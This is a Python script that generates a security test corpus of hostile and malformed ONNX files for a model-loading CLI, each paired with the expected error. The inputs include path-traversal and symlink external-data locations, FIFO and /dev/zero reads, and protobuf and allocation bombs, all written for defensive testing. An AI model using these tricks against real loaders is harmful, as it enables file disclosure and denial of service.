#!/usr/bin/env python
"""Write a corpus of hostile and broken ONNX files, each with the exit code and message it must get.

Usage::

    python tools/make_hostile.py OUT_DIR

writes the models under ``OUT_DIR`` and ``OUT_DIR/expected.json``, which maps each model's path
(relative to ``OUT_DIR``) to ``{"exit_code": N, "message": "substring", "why": "..."}``: running
``onnx-pathlift norm FILE --json`` must exit with ``N`` and print ``message`` (see SECURITY.md for the
policy behind each code). Every file is generated here from a tiny valid network; nothing is
downloaded. External-data cases live in their own folder (``CASE/model.onnx``) next to
``OUT_DIR/secret.bin``, valid weights *outside* that folder: a loader that followed the hostile
location would succeed (exit 0), so the corpus catches it. Cases the platform cannot express (no
symlinks, no FIFOs) are left out of ``expected.json``.

``generate(out_dir)`` does the same from Python and returns the mapping (tests/test_hostile.py).
"""

from __future__ import annotations

import json
import os
import sys
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

import numpy as np
import onnx
from onnx import TensorProto, helper, numpy_helper

OPSET = 17
W1 = np.array([[1, -2, 0, 3], [2, 1, -1, 0], [0, 0, 1, 1]], np.float32)  # Gemm transB=1: rows are neurons
B1 = np.array([1, -1, 2], np.float32)
W2 = np.array([[1, 2, -1], [-3, 0, 1]], np.float32)
B2 = np.array([1, -2], np.float32)


# --------------------------------------------------------------------------------------------
# building blocks
# --------------------------------------------------------------------------------------------


def model(nodes, inputs=(("x", [1, 4]),), outputs=(("y", None),), inits=None, opset=OPSET, sparse=()) -> onnx.ModelProto:
    """A float32 model; ``inputs``/``outputs`` are ``(name, shape)``, ``inits`` ``{name: array}``."""
    graph = helper.make_graph(
        nodes, "hostile",
        [helper.make_tensor_value_info(n, TensorProto.FLOAT, s) for n, s in inputs],
        [helper.make_tensor_value_info(n, TensorProto.FLOAT, s) for n, s in outputs],
        [numpy_helper.from_array(np.asarray(v), k) for k, v in (inits or {}).items()],
        sparse_initializer=list(sparse),
    )
    m = helper.make_model(graph, opset_imports=[helper.make_opsetid("", opset)] if opset else [])
    m.ir_version = 8
    return m


def mlp() -> onnx.ModelProto:
    """y = W2 relu(W1 x + b1) + b2: the valid network most cases break one thing of."""
    nodes = [
        helper.make_node("Gemm", ["x", "W1", "b1"], ["h"], name="fc1", transB=1),
        helper.make_node("Relu", ["h"], ["r"], name="relu1"),
        helper.make_node("Gemm", ["r", "W2", "b2"], ["y"], name="fc2", transB=1),
    ]
    return model(nodes, inits={"W1": W1, "b1": B1, "W2": W2, "b2": B2})


def conv(w=None, b=None, x_shape=(1, 2, 5, 5), **attrs) -> onnx.ModelProto:
    """x -> Conv(W, b) -> Relu -> y."""
    w = np.ones((3, 2, 3, 3), np.float32) if w is None else w
    b = np.zeros(w.shape[0] if w.ndim else 1, np.float32) if b is None else b
    nodes = [helper.make_node("Conv", ["x", "W", "B"], ["c"], name="conv", **attrs),
             helper.make_node("Relu", ["c"], ["y"], name="relu")]
    return model(nodes, inputs=[("x", list(x_shape))], inits={"W": w, "B": b})


def with_mlp(edit: Callable[[onnx.ModelProto], None]) -> onnx.ModelProto:
    m = mlp()
    edit(m.graph)
    return m


def init(m: onnx.ModelProto, name: str) -> onnx.TensorProto:
    return next(t for t in m.graph.initializer if t.name == name)


def external(tensor: onnx.TensorProto, location: str, offset: int = 0, length: int | None = None) -> onnx.TensorProto:
    """``tensor`` with its data moved to ``location`` (the bytes are not written here)."""
    nbytes = len(numpy_helper.to_array(tensor).tobytes())
    tensor.ClearField("raw_data")
    tensor.ClearField("float_data")
    tensor.data_location = TensorProto.EXTERNAL
    del tensor.external_data[:]
    entries = {"location": location, "offset": str(offset), "length": str(nbytes if length is None else length)}
    for key, value in entries.items():
        tensor.external_data.add(key=key, value=value)
    return tensor


def mlp_external(location: str, **kw) -> onnx.ModelProto:
    """The MLP with W1 stored at ``location`` (offset 0, as in ``secret.bin``)."""
    m = mlp()
    external(init(m, "W1"), location, **kw)
    return m


def if_model(then_nodes, then_out: str) -> onnx.ModelProto:
    then = helper.make_graph(then_nodes, "then", [], [helper.make_tensor_value_info(then_out, TensorProto.FLOAT, None)])
    other = helper.make_graph([helper.make_node("Identity", ["x"], ["e"])], "else", [],
                              [helper.make_tensor_value_info("e", TensorProto.FLOAT, None)])
    nodes = [helper.make_node("ReduceSum", ["x"], ["s"], name="sum", keepdims=0),
             helper.make_node("Greater", ["s", "zero"], ["cond"], name="cond"),
             helper.make_node("If", ["cond"], ["y"], name="branch", then_branch=then, else_branch=other)]
    return model(nodes, inits={"zero": np.array(0, np.float32)})


def wire(field: int, payload: bytes | int) -> bytes:
    """One protobuf field: a varint, or length-delimited bytes."""
    def varint(n: int) -> bytes:
        out = b""
        while True:
            out += bytes([(n & 0x7F) | (0x80 if n > 0x7F else 0)])
            n >>= 7
            if not n:
                return out
    if isinstance(payload, int):
        return varint(field << 3) + varint(payload)
    return varint(field << 3 | 2) + varint(len(payload)) + payload


def deeply_nested(depth: int) -> bytes:
    """``depth`` If nodes nested in each other's then_branch, encoded by hand (protobuf refuses to
    build what it refuses to parse)."""
    graph = wire(1, wire(4, b"Identity") + wire(1, b"x") + wire(2, b"o")) + wire(12, wire(1, b"o"))
    for _ in range(depth):
        attr = wire(1, b"then_branch") + wire(20, onnx.AttributeProto.GRAPH) + wire(6, graph)
        graph = wire(1, wire(4, b"If") + wire(1, b"c") + wire(2, b"o") + wire(5, attr)) + wire(12, wire(1, b"o"))
    return wire(1, 8) + wire(8, wire(2, OPSET)) + wire(7, graph)


# --------------------------------------------------------------------------------------------
# the cases
# --------------------------------------------------------------------------------------------


@dataclass(frozen=True)
class Case:
    """One corpus file: how to write it (into its path) and what the CLI must answer."""

    write: Callable[[Path, Path], None]  # (model path, corpus root)
    exit_code: int
    message: str  # substring of the error message (or of the JSON output on success)
    why: str
    folder: bool = False  # external-data cases get their own folder: CASE/model.onnx

    def path(self, name: str) -> str:
        return f"{name}/model.onnx" if self.folder else f"{name}.onnx"


CASES: dict[str, Case] = {}


def case(name: str, exit_code: int, message: str, why: str, folder: bool = False):
    def register(write):
        CASES[name] = Case(write, exit_code, message, why, folder)
        return write
    return register


def proto(name: str, exit_code: int, message: str, why: str, build: Callable[[], onnx.ModelProto]) -> None:
    """A case that is one serialized ModelProto."""
    case(name, exit_code, message, why)(lambda path, root: path.write_bytes(build().SerializeToString()))


def raw(name: str, exit_code: int, message: str, why: str, data: Callable[[], bytes]) -> None:
    case(name, exit_code, message, why)(lambda path, root: path.write_bytes(data()))


# ---- external data: every location must stay inside the model's folder ----------------------

ESCAPE = "tensor 'W1': external data location {!r} escapes the model folder"


def ext(name: str, exit_code: int, message: str, why: str):
    return case(name, exit_code, message, why, folder=True)


@ext("ext_ok", 0, '"norms"', "control: W1 in model.onnx.data beside the model loads and gets a norm")
def _(path, root):
    path.with_name("model.onnx.data").write_bytes(W1.tobytes())
    path.write_bytes(mlp_external("model.onnx.data").SerializeToString())


@ext("ext_parent", 4, ESCAPE.format("../secret.bin"), "`..` out of the model folder (to valid weights)")
def _(path, root):
    path.write_bytes(mlp_external("../secret.bin").SerializeToString())


@ext("ext_nested_parent", 4, ESCAPE.format("sub/../../secret.bin"), "`..` hidden behind a subfolder")
def _(path, root):
    path.with_name("sub").mkdir()
    path.write_bytes(mlp_external("sub/../../secret.bin").SerializeToString())


@ext("ext_absolute", 4, "external data location '/", "an absolute path (to valid weights)")
def _(path, root):
    path.write_bytes(mlp_external(str((root / "secret.bin").resolve())).SerializeToString())


@ext("ext_symlink", 4, ESCAPE.format("link.bin"), "a symlink in the folder pointing out of it (to valid weights)")
def _(path, root):
    os.symlink(os.path.join("..", "secret.bin"), path.with_name("link.bin"))
    path.write_bytes(mlp_external("link.bin").SerializeToString())


@ext("ext_symlink_device", 4, ESCAPE.format("zero.bin"), "a symlink to /dev/zero (an endless read)")
def _(path, root):
    if not os.path.exists("/dev/zero"):
        raise NotImplementedError("no /dev/zero")
    os.symlink("/dev/zero", path.with_name("zero.bin"))
    path.write_bytes(mlp_external("zero.bin").SerializeToString())


@ext("ext_fifo", 4, "external data file 'pipe.bin' is not a regular file", "a FIFO: reading it would block forever")
def _(path, root):
    if not hasattr(os, "mkfifo"):
        raise NotImplementedError("no FIFOs")
    os.mkfifo(path.with_name("pipe.bin"))
    path.write_bytes(mlp_external("pipe.bin").SerializeToString())


@ext("ext_directory", 4, "external data file 'adir' is not a regular file", "the location is a folder")
def _(path, root):
    path.with_name("adir").mkdir()
    path.write_bytes(mlp_external("adir").SerializeToString())


@ext("ext_missing", 4, "tensor 'W1': external data file 'gone.bin' not found", "the data file does not exist")
def _(path, root):
    path.write_bytes(mlp_external("gone.bin").SerializeToString())


@ext("ext_short", 4, "tensor 'W1': external file 'short.bin' is 8 bytes, needs 48", "the data file is too short")
def _(path, root):
    path.with_name("short.bin").write_bytes(b"\0" * 8)
    path.write_bytes(mlp_external("short.bin").SerializeToString())


@ext("ext_offset_past_end", 4, "is 48 bytes, needs 1048", "offset beyond the end of the file")
def _(path, root):
    path.with_name("w.bin").write_bytes(W1.tobytes())
    path.write_bytes(mlp_external("w.bin", offset=1000).SerializeToString())


@ext("ext_length_mismatch", 4, "length 1000000 do not fit its 48 bytes", "a length that disagrees with the tensor")
def _(path, root):
    path.with_name("w.bin").write_bytes(W1.tobytes() * 30000)
    path.write_bytes(mlp_external("w.bin", length=1_000_000).SerializeToString())


#: size of the sparse data file of ``ext_no_length_huge`` (no disk blocks are written)
SPARSE_BYTES = 4 << 30


def mlp_external_no_length(location: str, offset: int = 0) -> onnx.ModelProto:
    """The MLP with W1 at ``location`` and no ``length`` entry (ONNX: "to the end of the file")."""
    m = mlp_external(location, offset=offset)
    entries = [e for e in init(m, "W1").external_data if e.key != "length"]
    del init(m, "W1").external_data[:]
    init(m, "W1").external_data.extend(entries)
    return m


@ext("ext_no_length_ok", 0, '"norms"', "control: no length entry, the file holds exactly W1's 48 bytes after the offset")
def _(path, root):
    path.with_name("w.bin").write_bytes(b"\0" * 16 + W1.tobytes())
    path.write_bytes(mlp_external_no_length("w.bin", offset=16).SerializeToString())


@ext("ext_no_length_huge", 4, f"is {SPARSE_BYTES} bytes, and without a length entry must be 48",
     "no length entry and a 4 GiB sparse file: refused from its size, nothing read")
def _(path, root):
    with open(path.with_name("huge.bin"), "wb") as f:
        f.write(W1.tobytes())
        f.truncate(SPARSE_BYTES)
    path.write_bytes(mlp_external_no_length("huge.bin").SerializeToString())


@ext("ext_huge_declared", 4, "tensor 'W1' declares 1000000000000 elements", "1e12 elements claimed, refused before reading")
def _(path, root):
    path.with_name("w.bin").write_bytes(W1.tobytes())
    m = mlp_external("w.bin")
    t = init(m, "W1")
    del t.dims[:]
    t.dims.extend([1_000_000, 1_000_000])
    path.write_bytes(m.SerializeToString())


@ext("ext_constant_attribute", 4, "tensor 'cw': external data location '../secret.bin' escapes",
     "a Constant node's value tensor pointing out of the folder")
def _(path, root):
    m = mlp()
    g = m.graph
    g.initializer.remove(init(m, "W1"))
    g.node.insert(0, helper.make_node("Constant", [], ["W1"], name="const_w",
                                      value=external(numpy_helper.from_array(W1, "cw"), "../secret.bin")))
    path.write_bytes(m.SerializeToString())


@ext("ext_subgraph", 4, "tensor 'cw': external data location '../secret.bin' escapes",
     "a tensor inside an If branch pointing out of the folder (checked before the If is refused)")
def _(path, root):
    const = helper.make_node("Constant", [], ["k"], value=external(numpy_helper.from_array(W1, "cw"), "../secret.bin"))
    path.write_bytes(if_model([const, helper.make_node("Identity", ["x"], ["t"])], "t").SerializeToString())


@ext("ext_sparse_initializer", 4, "tensor 'W1': external data location '../secret.bin' escapes",
     "the values of a sparse initializer pointing out of the folder")
def _(path, root):
    values = external(numpy_helper.from_array(W1.reshape(-1), "W1"), "../secret.bin")
    indices = numpy_helper.from_array(np.arange(12, dtype=np.int64), "W1_indices")
    m = mlp()
    m.graph.initializer.remove(init(m, "W1"))
    m.graph.sparse_initializer.append(helper.make_sparse_tensor(values, indices, [3, 4]))
    path.write_bytes(m.SerializeToString())


# ---- not ONNX at all ------------------------------------------------------------------------

raw("empty_file", 4, "empty file", "zero bytes", lambda: b"")
raw("random_bytes", 4, "not an ONNX model", "4 KiB of noise",
    lambda: np.random.default_rng(0).integers(0, 256, 4096, dtype=np.uint8).tobytes())
raw("text_file", 4, "not an ONNX model", "a text file named .onnx", lambda: b"this is not a model\n" * 20)
raw("truncated", 4, "not an ONNX model (protobuf decode failed", "a valid model cut in the middle of its graph",
    lambda: mlp().SerializeToString()[: len(mlp().SerializeToString()) // 2])
raw("no_graph", 4, "not an ONNX model (no graph)", "a ModelProto without a graph",
    lambda: onnx.ModelProto(ir_version=8).SerializeToString())
raw("invalid_utf8_name", 4, "invalid UTF-8", "a node name that is not UTF-8 (protobuf hands such strings back as bytes)",
    lambda: mlp().SerializeToString().replace(b"relu1", b"rel\xff1"))
raw("deep_nesting", 4, "not an ONNX model (protobuf decode failed", "If subgraphs nested 200 deep",
    lambda: deeply_nested(200))



# ---- one file, one answer: the fast weight reader as strict as protobuf (issue 27) -----------


def wide_mlp_wire(raw_key: bytes | None = None, tensor_length_pad: int = 0, extra_graph: bytes = b"",
                  segment: bool = False) -> bytes:
    """A Gemm whose 64×32 float32 weight (8 KiB: read straight into an array by onnx_pathlift.fileio.wire)
    is written by hand: its ``raw_data`` key as ``raw_key`` (default: the 1-byte key), its length
    varint padded with ``tensor_length_pad`` continuation bytes; ``extra_graph`` appended to the graph."""
    w = np.random.default_rng(3).normal(size=(32, 64)).astype(np.float32)
    m = model([helper.make_node("Gemm", ["x", "W"], ["h"], name="fc", transB=1), helper.make_node("Relu", ["h"], ["y"])],
              inputs=(("x", [1, 64]),), inits={})
    tensor = wire(1, 32) + wire(1, 64) + wire(2, TensorProto.FLOAT) + wire(8, b"W")
    if segment:
        tensor += wire(3, wire(1, 0) + wire(2, 1))
    tensor += (raw_key or bytes([9 << 3 | 2])) + bytes([0x80, 0x40]) + w.tobytes()  # 8192 as a 2-byte varint
    length = len(tensor)
    padded = bytes([(length & 0x7F) | 0x80, (length >> 7 & 0x7F) | (0x80 if tensor_length_pad else 0)])
    padded += b"\x80" * max(tensor_length_pad - 1, 0) + (b"\x00" if tensor_length_pad else b"")
    graph = m.graph.SerializeToString() + bytes([5 << 3 | 2]) + padded + tensor + extra_graph
    head = wire(1, 8) + wire(8, wire(2, OPSET))
    return head + wire(7, graph)


raw("wire_ok", 0, '"norms"', "control: the hand-written wide MLP reads and gets a norm", wide_mlp_wire)
raw("wire_raw_data_key_6_bytes", 4, "protobuf decode failed",
    "the raw_data key as a 6-byte varint: protobuf allows at most 5 (the fast reader dropped the key unseen)",
    lambda: wide_mlp_wire(raw_key=bytes([9 << 3 | 2 | 0x80, 0x80, 0x80, 0x80, 0x80, 0x00])))
raw("wire_raw_data_key_5_bytes", 0, '"norms"', "the raw_data key as a 5-byte varint: protobuf accepts it, so do we",
    lambda: wide_mlp_wire(raw_key=bytes([9 << 3 | 2 | 0x80, 0x80, 0x80, 0x80, 0x00])))
raw("wire_initializer_length_7_bytes", 4, "protobuf decode failed",
    "an initializer's length as a 7-byte varint (the fast reader rewrote it unseen)",
    lambda: wide_mlp_wire(tensor_length_pad=5))
raw("wire_segment", 4, "segment", "a large initializer marked as a segment of a larger tensor: refused as a small one is",
    lambda: wide_mlp_wire(segment=True))
raw("wire_tiny_messages", 4, "to decode", "3 MiB of empty value_info entries: protobuf would take 38 bytes per "
    "file byte; counted and refused before decoding", lambda: wide_mlp_wire(extra_graph=bytes([13 << 3 | 2, 0]) * (3 << 19)))
raw("wire_nested_tensors", 4, "to decode", "1 MiB of empty tensors in one attribute of one node (below the node "
    "level): protobuf would take 80 bytes per file byte; counted and refused before decoding",
    lambda: wide_mlp_wire(extra_graph=wire(1, wire(5, wire(10, b"") * (1 << 19)))))
raw("wire_packed_int64", 4, "to decode", "2 MiB of one-byte packed int64 values in an unused initializer: protobuf "
    "would take 16 bytes per file byte; counted and refused before decoding",
    lambda: wide_mlp_wire(extra_graph=wire(5, wire(1, 1 << 21) + wire(2, TensorProto.INT64) + wire(7, b"\x01" * (1 << 21)))))

# ---- sizes: checked before anything is allocated --------------------------------------------


def _huge_init():
    m = mlp()
    t = init(m, "W1")
    del t.dims[:]
    t.dims.extend([1_000_000, 1_000_000])
    return m


def _overflow_dims():
    m = mlp()
    t = init(m, "W1")
    del t.dims[:]
    t.dims.extend([2**32, 2**32])  # the product wraps to 0 in int64
    return m


def _constant_of_shape():
    nodes = [helper.make_node("ConstantOfShape", ["shp"], ["big"], name="huge_cos",
                              value=helper.make_tensor("v", TensorProto.FLOAT, [1], [1.0])),
             helper.make_node("ReduceSum", ["big"], ["s"], name="rs", keepdims=0),
             helper.make_node("Mul", ["x", "s"], ["y"], name="mul")]
    return model(nodes, inits={"shp": np.array([1_000_000, 1_000_000], np.int64)})


def _range():
    nodes = [helper.make_node("Range", ["start", "limit", "delta"], ["r"], name="huge_range"),
             helper.make_node("Cast", ["r"], ["rf"], to=TensorProto.FLOAT),
             helper.make_node("ReduceSum", ["rf"], ["s"], keepdims=0),
             helper.make_node("Mul", ["x", "s"], ["y"], name="mul")]
    return model(nodes, inits={"start": np.array(0, np.int64), "limit": np.array(10**12, np.int64),
                               "delta": np.array(1, np.int64)})


def _tile():
    nodes = [helper.make_node("Tile", ["t", "reps"], ["big"], name="huge_tile"),
             helper.make_node("Mul", ["x", "big"], ["y"], name="mul")]
    return model(nodes, inits={"t": np.ones((1, 4), np.float32), "reps": np.array([10**6, 10**6], np.int64)})


proto("huge_initializer_header", 4, "tensor 'W1' declares 1000000000000 elements",
      "dims claim 1e12 elements, data holds 12", _huge_init)
proto("huge_dims_overflow", 4, "declares 18446744073709551616 elements", "dims whose int64 product wraps to 0",
      _overflow_dims)
proto("huge_constant_of_shape", 4, "node 'huge_cos' (ConstantOfShape) would allocate 1000000000000 elements",
      "a folded constant of 1e12 elements", _constant_of_shape)
proto("huge_range", 4, "node 'huge_range' (Range) would allocate 1000000000000 elements",
      "Range(0, 1e12) in the constant subgraph", _range)
proto("huge_tile", 4, "node 'huge_tile' (Tile) would allocate 4000000000000 elements", "Tile by 1e6 x 1e6", _tile)
proto("huge_expand_unsqueeze", 4, "tensor 'e' has 4398046511104 elements",
      "Expand to 2^40 x 4 then Unsqueeze: ONNX's shape-inference data propagation would allocate per element",
      lambda: model([helper.make_node("Expand", ["x", "shape"], ["e"], name="expand"),
                     helper.make_node("Unsqueeze", ["e", "ax"], ["y"], name="unsqueeze")],
                    inits={"shape": np.array([2**40, 4], np.int64), "ax": np.array([0], np.int64)}))
proto("huge_input", 4, "tensor 'x' has 1000000000000 elements", "a declared input of 1e12 elements",
      lambda: conv(x_shape=(1, 2, 1_000_000, 500_000)))
proto("huge_activation", 4, "tensor 'c' has", "pads of 1e9 make a 4e18-element activation",
      lambda: conv(pads=[10**9] * 4))

# ---- graph structure ------------------------------------------------------------------------

proto("empty_graph", 4, "the graph has no nodes", "input wired straight to the output",
      lambda: model([], outputs=[("x", [1, 4])]))
proto("no_opset", 4, "imports no version of the default ONNX domain", "no opset_import",
      lambda: model(mlp().graph.node, inits={"W1": W1, "b1": B1, "W2": W2, "b2": B2}, opset=0))
proto("future_opset", 3, "default-domain opset 999 is newer than this onnx release knows", "opset 999",
      lambda: model(mlp().graph.node, inits={"W1": W1, "b1": B1, "W2": W2, "b2": B2}, opset=999))
proto("cycle", 4, "the graph has a cycle", "a -> b -> a",
      lambda: model([helper.make_node("Add", ["x", "c"], ["a"], name="cyc_a"),
                     helper.make_node("Relu", ["a"], ["c"], name="cyc_b"),
                     helper.make_node("Relu", ["a"], ["y"], name="out")]))
proto("dangling_input", 4, "node 'dangle' (Add) reads 'ghost', which nothing produces", "an input nobody produces",
      lambda: model([helper.make_node("Add", ["x", "ghost"], ["y"], name="dangle")]))
proto("dangling_output", 4, "graph output 'ghost' is not produced by any node", "a graph output nobody produces",
      lambda: with_mlp(lambda g: g.output.append(helper.make_tensor_value_info("ghost", TensorProto.FLOAT, None))))
proto("duplicate_producer", 4, "tensor 'h' is produced twice", "two nodes write the same tensor",
      lambda: model([helper.make_node("Relu", ["x"], ["h"], name="dup1"),
                     helper.make_node("Relu", ["x"], ["h"], name="dup2"),
                     helper.make_node("Relu", ["h"], ["y"], name="o")]))
proto("duplicate_initializer", 4, "initializer 'W1' is declared twice", "two initializers named W1 (which wins?)",
      lambda: with_mlp(lambda g: g.initializer.append(numpy_helper.from_array(np.zeros_like(W1), "W1"))))
proto("duplicate_input", 4, "graph input 'x' is declared twice", "the input listed twice",
      lambda: with_mlp(lambda g: g.input.append(g.input[0])))
proto("empty_op_type", 4, "node 'relu1' (outputs ['r']) has no op_type", "a node without an op_type",
      lambda: with_mlp(lambda g: g.node[1].ClearField("op_type")))
proto("output_is_input", 0, "output 'x' dropped: it is a graph input",
      "the input also listed as an output (it used to silence ONNX's strict shape inference)",
      lambda: with_mlp(lambda g: g.output.append(helper.make_tensor_value_info("x", TensorProto.FLOAT, None))))
proto("if_subgraph", 3, "data-dependent control flow", "an If node (nested subgraphs are never run)",
      lambda: if_model([helper.make_node("Relu", ["x"], ["t"])], "t"))


def _loop():
    body = helper.make_graph(
        [helper.make_node("Identity", ["cond_in"], ["cond_out"]), helper.make_node("Relu", ["v_in"], ["v_out"])], "body",
        [helper.make_tensor_value_info("i", TensorProto.INT64, []), helper.make_tensor_value_info("cond_in", TensorProto.BOOL, []),
         helper.make_tensor_value_info("v_in", TensorProto.FLOAT, [1, 4])],
        [helper.make_tensor_value_info("cond_out", TensorProto.BOOL, []), helper.make_tensor_value_info("v_out", TensorProto.FLOAT, [1, 4])])
    return model([helper.make_node("Loop", ["trip", "cond", "x"], ["y"], name="loop", body=body)],
                 inits={"trip": np.array(3, np.int64), "cond": np.array(True)})


def _scan():
    body = helper.make_graph(
        [helper.make_node("Add", ["s_in", "e"], ["s_out"]), helper.make_node("Relu", ["s_out"], ["o"])], "body",
        [helper.make_tensor_value_info("s_in", TensorProto.FLOAT, [4]), helper.make_tensor_value_info("e", TensorProto.FLOAT, [4])],
        [helper.make_tensor_value_info("s_out", TensorProto.FLOAT, [4]), helper.make_tensor_value_info("o", TensorProto.FLOAT, [4])])
    return model([helper.make_node("Scan", ["init", "x"], ["fin", "y"], name="scan", body=body, num_scan_inputs=1)],
                 inits={"init": np.zeros(4, np.float32)})


proto("loop_subgraph", 3, "data-dependent control flow", "a Loop node", _loop)
proto("scan_subgraph", 3, "data-dependent control flow", "a Scan node", _scan)
def _custom_op() -> onnx.ModelProto:
    m = with_mlp(lambda g: g.node[1].CopyFrom(helper.make_node("Evil", ["h"], ["r"], name="evil", domain="com.evil")))
    m.opset_import.append(helper.make_opsetid("com.evil", 1))
    return m


proto("custom_domain_op", 3, "evil (Evil): operator of the non-standard domain 'com.evil'",
      "an op from a custom domain (never executed)", _custom_op)

# ---- wrong arities, attributes and types ----------------------------------------------------

proto("conv_one_input", 4, "has input size 1 not in range", "Conv(x) without a kernel",
      lambda: model([helper.make_node("Conv", ["x"], ["y"], name="conv")], inputs=[("x", [1, 2, 5, 5])]))
proto("gemm_five_inputs", 4, "has input size 5 not in range", "Gemm with 5 inputs",
      lambda: with_mlp(lambda g: g.node[0].input.extend(["b1", "b1"])))
proto("relu_two_outputs", 4, "has output size 2 not in range", "Relu with 2 outputs",
      lambda: with_mlp(lambda g: g.node[1].output.append("extra")))
proto("empty_required_input", 4, "input 1 (data_0) is required but its name is empty",
      "Sum(x, '', x): an empty name where no input is optional (it silences ONNX's shape inference)",
      lambda: model([helper.make_node("Sum", ["x", "", "x"], ["s"], name="sum"),
                     helper.make_node("Relu", ["s"], ["y"], name="relu")]))
proto("transpose_bad_perm", 4, "its perm [1] is not a permutation of the axes of its input (1, 4)",
      "a Transpose perm shorter than the rank (ONNX shape inference drops the axis silently)",
      lambda: model([helper.make_node("Transpose", ["x"], ["t"], name="tr", perm=[1]),
                     helper.make_node("Relu", ["t"], ["y"], name="relu")]))
proto("attribute_wrong_type", 4, "attribute 'alpha' is STRING, ONNX Gemm expects FLOAT", "alpha given as a string",
      lambda: with_mlp(lambda g: g.node[0].attribute.append(helper.make_attribute("alpha", "lots"))))
proto("attribute_unknown", 4, "'ceil_mode' is not an attribute of Gemm", "an attribute the op does not have",
      lambda: with_mlp(lambda g: g.node[0].attribute.append(helper.make_attribute("ceil_mode", 1))))
def _cast_without_to(g: onnx.GraphProto) -> None:
    g.node.insert(0, helper.make_node("Cast", ["x"], ["xc"], name="cast"))
    g.node[1].input[0] = "xc"


proto("attribute_missing", 4, "required attribute(s) ['to'] missing", "Cast without 'to'",
      lambda: with_mlp(_cast_without_to))
proto("conv_int64_weight", 4, "has unsupported type: tensor(int64)", "an int64 Conv kernel",
      lambda: conv(w=np.ones((3, 2, 3, 3), np.int64)))


def _string_weight():
    m = mlp()
    init(m, "W1").CopyFrom(helper.make_tensor("W1", TensorProto.STRING, [3, 4], [b"w"] * 12))
    return m


def _unknown_dtype():
    m = mlp()
    init(m, "W1").data_type = 77
    return m


proto("string_initializer", 4, "tensor(string)", "a string tensor as Gemm weight", _string_weight)
proto("unknown_dtype", 4, "tensor 'W1' has an unknown data type 77", "data_type 77", _unknown_dtype)
proto("negative_dim", 4, "tensor 'W1' declares a negative dimension (-3, 4)", "dims (-3, 4)",
      lambda: with_mlp(lambda g: g.initializer[0].dims.__setitem__(0, -3)))
proto("conv_channel_mismatch", 4, "its input has 2 channels, its kernel (3, 5, 3, 3) with group 1 takes 5",
      "the kernel expects 5 input channels", lambda: conv(w=np.ones((3, 5, 3, 3), np.float32)))
proto("conv_group_zero", 4, "group 0 does not divide", "group=0 (a division by zero downstream)",
      lambda: conv(group=0))
proto("conv_bias_shape", 4, "its bias has shape (2,), its kernel (3, 2, 3, 3) needs (3,)", "bias of the wrong length",
      lambda: conv(b=np.zeros(2, np.float32)))
proto("conv_pads_and_auto_pad", 4, "it sets both pads", "pads and auto_pad together",
      lambda: conv(pads=[1, 1, 1, 1], auto_pad="VALID"))
proto("gemm_inner_mismatch", 4, "its operands (1, 4) and (3, 5) (transA=0, transB=1) do not chain",
      "x has 4 features, W1 takes 5 (at opset 6, where ONNX shape inference does not check it)",
      lambda: model(mlp().graph.node, inits={"W1": np.ones((3, 5), np.float32), "b1": B1, "W2": W2, "b2": B2}, opset=6))



def _legacy_add(**attrs) -> onnx.ModelProto:
    """Opset 6: ``Add(x, b)`` with its legacy ``broadcast``/``axis`` attributes (b per channel)."""
    nodes = [helper.make_node("Add", ["x", "b"], ["s"], name="legacy_add", **attrs),
             helper.make_node("Relu", ["s"], ["y"], name="relu")]
    return model(nodes, inputs=[("x", [1, 3, 3, 3])], inits={"b": np.arange(3, dtype=np.float32)}, opset=6)


proto("legacy_broadcast_axis", 3, "opset < 7 broadcast of (3,) along axis 1", "a per-channel bias in opset-6 form "
      "(numpy alignment would silently add it along the last axis instead)", lambda: _legacy_add(broadcast=1, axis=1))
proto("legacy_broadcast_unset", 4, "differ and broadcast is not set", "opset 6 operands of different shapes "
      "without broadcast=1", _legacy_add)

# ---- values ---------------------------------------------------------------------------------


def _nan_weight():
    w = W1.copy()
    w[1, 2] = np.nan
    return with_mlp(lambda g: g.initializer[0].CopyFrom(numpy_helper.from_array(w, "W1")))


def _inf_bias():
    return with_mlp(lambda g: g.initializer[3].CopyFrom(numpy_helper.from_array(np.array([1, np.inf], np.float32), "b2")))


def _folded_inf():
    m = mlp()
    m.graph.node.insert(0, helper.make_node("Div", ["W1raw", "zeros"], ["W1"], name="div_by_zero"))
    init(m, "W1").name = "W1raw"
    m.graph.initializer.append(numpy_helper.from_array(np.zeros((3, 4), np.float32), "zeros"))
    return m


proto("nan_weight", 3, "fc1 (Gemm): its weight ('W1') holds NaN/Inf (first at index (1, 2))", "one NaN in W1", _nan_weight)
proto("inf_bias", 3, "fc2 (Gemm): its bias ('b2') holds NaN/Inf (first at index (1,))", "an Inf bias", _inf_bias)
proto("inf_from_folding", 3, "holds NaN/Inf", "W1 = W / 0 computed by a constant subgraph", _folded_inf)
proto("nan_attribute", 3, "its attribute 'alpha' is nan", "Gemm alpha = NaN scales every weight to NaN",
      lambda: with_mlp(lambda g: g.node[0].attribute.append(helper.make_attribute("alpha", float("nan")))))
proto("zero_channel_conv", 4, "tensor 'c' has the shape (1, 0, 3, 3)", "a Conv with 0 output channels",
      lambda: conv(w=np.ones((0, 2, 3, 3), np.float32)))
proto("zero_size_input", 4, "input 'x' declares the shape (1, 2, 0, 5)", "an input with a 0-size dimension",
      lambda: conv(x_shape=(1, 2, 0, 5)))
proto("sparse_initializer", 3, "sparse tensors are not supported", "a (valid) sparse initializer",
      lambda: model(mlp().graph.node, inits={"W1": W1, "b1": B1, "b2": B2}, sparse=[helper.make_sparse_tensor(
          numpy_helper.from_array(W2.reshape(-1), "W2"), numpy_helper.from_array(np.arange(6, dtype=np.int64)), [2, 3])]))

# ---- inputs the user has to describe --------------------------------------------------------

proto("int_input", 3, "it has the non-float type INT64", "an integer input (token ids): no float network",
      lambda: with_mlp(lambda g: setattr(g.input[0].type.tensor_type, "elem_type", TensorProto.INT64)))
def _symbolic_features(g: onnx.GraphProto) -> None:
    g.input[0].type.tensor_type.shape.dim[1].dim_param = "F"  # replaces the static 4


proto("symbolic_dims", 2, "pass --input-shape", "a symbolic feature dimension", lambda: with_mlp(_symbolic_features))

# ---- valid but large: must stay fast --------------------------------------------------------

proto("long_chain", 0, '"norms"', "20000 Relu nodes in a row", lambda: model(
    [helper.make_node("Relu", [f"t{i}" if i else "x"], [f"t{i + 1}" if i < 19999 else "y"]) for i in range(20000)]))


# ---- ranks and attributes numpy or onnxruntime would choke on ------------------------------

